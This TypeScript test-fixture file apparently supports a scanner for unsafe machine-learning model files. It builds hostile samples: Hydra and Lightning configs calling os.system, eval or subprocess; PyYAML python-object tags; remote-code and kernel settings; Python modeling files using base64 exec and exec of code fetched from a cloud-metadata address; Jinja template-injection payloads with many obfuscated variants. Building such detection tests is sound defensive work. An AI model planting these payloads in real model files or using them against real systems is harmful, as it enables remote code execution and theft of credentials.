import { gzipSync } from 'node:zlib';
import { tarArchive } from '../tarAssembler.ts';
import { code, command, type HostileFile, harmlessPickle, hostileClass } from './hostileFile.ts';

const json = (value: unknown) => Buffer.from(JSON.stringify(value));
const nemo = (yaml: string) =>
  tarArchive([
    { name: './model_config.yaml', content: Buffer.from(yaml) },
    { name: './model_weights.ckpt', content: harmlessPickle },
  ]);
const elsewhere = 'what the named code does stands in a file that is not here';

const hydra = hostileClass('hydra-target', [
  ['system.nemo', 'CVE-2025-23304', nemo(`model:\n  _target_: os.system\n  command: ${command}\n`)],
  ['system-gzip.nemo', 'CVE-2025-23304', gzipSync(nemo(`_target_: os.system\ncommand: ${command}\n`))],
  [
    'eval.nemo',
    'CVE-2025-23304',
    nemo(`a:\n  - b:\n      _target_: builtins.eval\n      _args_: ["${code}"]\n`),
  ],
  ['exec.yaml', 'Hydra documentation', Buffer.from(`_target_: builtins.exec\n_args_:\n  - "${code}"\n`)],
  ['quoted-key.yaml', 'Hydra documentation', Buffer.from(`"_targ\\x65t_": os.system\ncommand: x\n`)],
  [
    'alias.yaml',
    'Hydra documentation',
    Buffer.from('base: &a\n  _target_: subprocess.Popen\nmodel:\n  <<: *a\n  args: x\n'),
  ],
  ['flow.yaml', 'Hydra documentation', Buffer.from('{model: {_target_: posix.system, command: x}}\n')],
  ['second-document.yaml', 'Hydra documentation', Buffer.from('a: 1\n---\n_target_: os.system\n')],
  ['popen.json', 'CVE-2026-22584', json({ model: { _target_: 'subprocess.Popen', args: command } })],
  ['walk.json', 'CVE-2026-22584', json({ _target_: 'torch.nn.Module.__init__.__globals__' })],
  ['torch-hub.json', 'CVE-2026-22584', json({ _target_: 'torch.hub.load', repo_or_dir: 'evil/repo' })],
  ['numpy-load.json', 'CVE-2026-22584', json({ _target_: 'numpy.load', allow_pickle: true })],
  ['class-path.json', 'Lightning', json({ model: { class_path: 'os.system', init_args: { command } } })],
  [
    'stable-diffusion.yaml',
    'latent diffusion',
    Buffer.from('model:\n  target: os.system\n  params:\n    command: x\n'),
  ],
  ['unknown.yaml', 'Hydra documentation', Buffer.from('_target_: evil_package.Run\n'), elsewhere],
]);

const tagged = hostileClass('yaml-tag', [
  ['apply.yaml', 'CVE-2020-14343', Buffer.from(`!!python/object/apply:os.system ["${command}"]\n`)],
  [
    'new.yaml',
    'CVE-2020-14343',
    Buffer.from(`a: !!python/object/new:subprocess.Popen [["touch", "/tmp/mw-marker"]]\n`),
  ],
  ['name.yaml', 'CVE-2020-14343', Buffer.from('a: !!python/name:builtins.eval\n')],
  ['module.yaml', 'CVE-2020-14343', Buffer.from('a: !!python/module:os\n')],
  [
    'whole-tag.yaml',
    'CVE-2020-14343',
    Buffer.from(`a: !<tag:yaml.org,2002:python/object/apply:os.system> ["x"]\n`),
  ],
  [
    'tag-prefix.yaml',
    'CVE-2020-14343',
    Buffer.from(`%TAG ! tag:yaml.org,2002:python/object/apply:\n---\na: !os.system ["x"]\n`),
  ],
  ['escaped-tag.yaml', 'CVE-2020-14343', Buffer.from('a: !!python/object/apply:o%73.system ["x"]\n')],
  ['hyperpyyaml.yaml', 'speechbrain', Buffer.from(`a: !apply:os.system\n  command: ${command}\n`)],
]);

const remote = hostileClass('remote-code', [
  [
    'config.json',
    'transformers auto_map',
    json({ auto_map: { AutoModel: 'evil/repo--modeling_x.X' } }),
    elsewhere,
  ],
  ['kernel.json', 'CVE-2026-4372', json({ attn_implementation: 'evil/kernel' })],
  [
    'kernel-of-a-part.json',
    'CVE-2026-4372',
    json({ vision_config: { _attn_implementation_internal: 'evil/kernel' } }),
  ],
  [
    'own-trust.json',
    'CVE-2026-5241',
    json({ keypoint_detector_config: { trust_remote_code: true } }),
    elsewhere,
  ],
  [
    'model_index.json',
    'CVE-2026-44513',
    json({ _class_name: 'FluxPipeline', _diffusers_version: '0.30.0', unet: ['my_unet', 'MyUnet'] }),
    elsewhere,
  ],
  ['activation.json', 'sentence-transformers', json({ activation_function: 'os.abort' })],
  ['modules.json', 'sentence-transformers', json([{ idx: 0, name: '0', path: '', type: 'os.system' }])],
  [
    'adapter_config.json',
    'PEFT',
    json({ auto_mapping: { base_model_class: 'system', parent_library: 'os' } }),
    'the module is imported and nothing of it is called',
  ],
]);

const python = (text: string) => Buffer.from(text);

const beside = hostileClass('code-beside', [
  [
    'modeling_system.py',
    'trust_remote_code',
    python(`import os\n\nclass Model:\n    def __init__(self):\n        os.system("${command}")\n`),
    'Python that may be meant to do so: reading it is for people',
  ],
  [
    'modeling_import.py',
    'trust_remote_code',
    python(`import subprocess\nsubprocess.run(["touch", "/tmp/mw-marker"])\n`),
  ],
  [
    'modeling_hidden.py',
    'trust_remote_code',
    python(`x = getattr(__import__("o" + "s"), "sys" + "tem")\nx("${command}")\n`),
    'Python that calls what it computes: reading it is for people',
  ],
  ['modeling_exec.py', 'trust_remote_code', python(`import base64\nexec(base64.b64decode("cGFzcw=="))\n`)],
  [
    'modeling_network.py',
    'trust_remote_code',
    python('import urllib.request\nexec(urllib.request.urlopen("http://169.254.169.254/x").read())\n'),
  ],
  ['setup.sh', 'scripts', python(`#!/bin/sh\n${command}\n`), 'a script that nobody has to run'],
  [
    'model.exe',
    'programs',
    Buffer.concat([
      Buffer.from('MZ'),
      Buffer.alloc(58),
      Buffer.from([64, 0, 0, 0]),
      Buffer.from('PE\0\0'),
      Buffer.alloc(200),
    ]),
    'a program that nobody has to run',
  ],
  [
    'libmodel.bin',
    'programs',
    Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(57)]),
    'a program that nobody has to run',
  ],
]);

const template = (text: string) => Buffer.from(text);
const settings = (text: string) => json({ tokenizer_class: 'LlamaTokenizer', chat_template: text });
const walk = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
const computed = 'the template computes the name, which only running it tells';

const templates = hostileClass('jinja-template', [
  ['mro.jinja', 'CVE-2024-34359', template(walk)],
  [
    'tokenizer_config.json',
    'CVE-2024-34359',
    settings(
      "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('touch /tmp/mw-marker').read() }}{% endif %}{% endfor %}",
    ),
  ],
  ['chat_template.json', 'CVE-2024-34359', json({ chat_template: walk })],
  [
    'list.json',
    'CVE-2024-34359',
    json({
      chat_template: [
        { name: 'default', template: 'hello' },
        { name: 'tool_use', template: walk },
      ],
    }),
  ],
  [
    'gadget.jinja',
    'CVE-2024-34359',
    template("{{ cycler.__init__.__globals__.os.popen('touch /tmp/mw-marker').read() }}"),
  ],
  ['subscript.json', 'regular expressions', settings("{{ ''['__class__'] }}")],
  ['hexadecimal.json', 'regular expressions', settings("{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}")],
  ['octal.json', 'regular expressions', settings("{{ ''['\\137\\137class\\137\\137'] }}")],
  ['joined.json', 'regular expressions', settings("{{ ''['__cla' ~ 'ss__'] }}")],
  [
    'variables.json',
    'regular expressions',
    settings("{% set a = '__cla' %}{% set b = 'ss__' %}{{ ''[a + b] }}"),
  ],
  ['filter.json', 'regular expressions', settings("{{ messages | attr('__class__') }}")],
  [
    'filter-by-name.json',
    'regular expressions',
    settings("{{ [messages] | map('attr', '__cla' ~ 'ss__') | list }}"),
  ],
  [
    'macro.json',
    'regular expressions',
    settings("{% macro get(o, k) %}{{ o[k] }}{% endmacro %}{{ get(messages, '__cla' ~ 'ss__') }}"),
  ],
  ['format.json', 'regular expressions', settings("{{ '{0.__class__}'.format(messages) }}")],
  ['line-break.json', 'regular expressions', settings('{{\rx\n.\n__class__\r}}')],
  ['reversed.json', 'regular expressions', settings("{{ x['__ssalc__'[::-1]] }}")],
  ['from-input.json', 'regular expressions', settings("{{ ''['__' ~ messages[0].role] }}"), computed],
]);

export const configFiles: readonly HostileFile[] = [...hydra, ...tagged, ...remote, ...beside, ...templates];
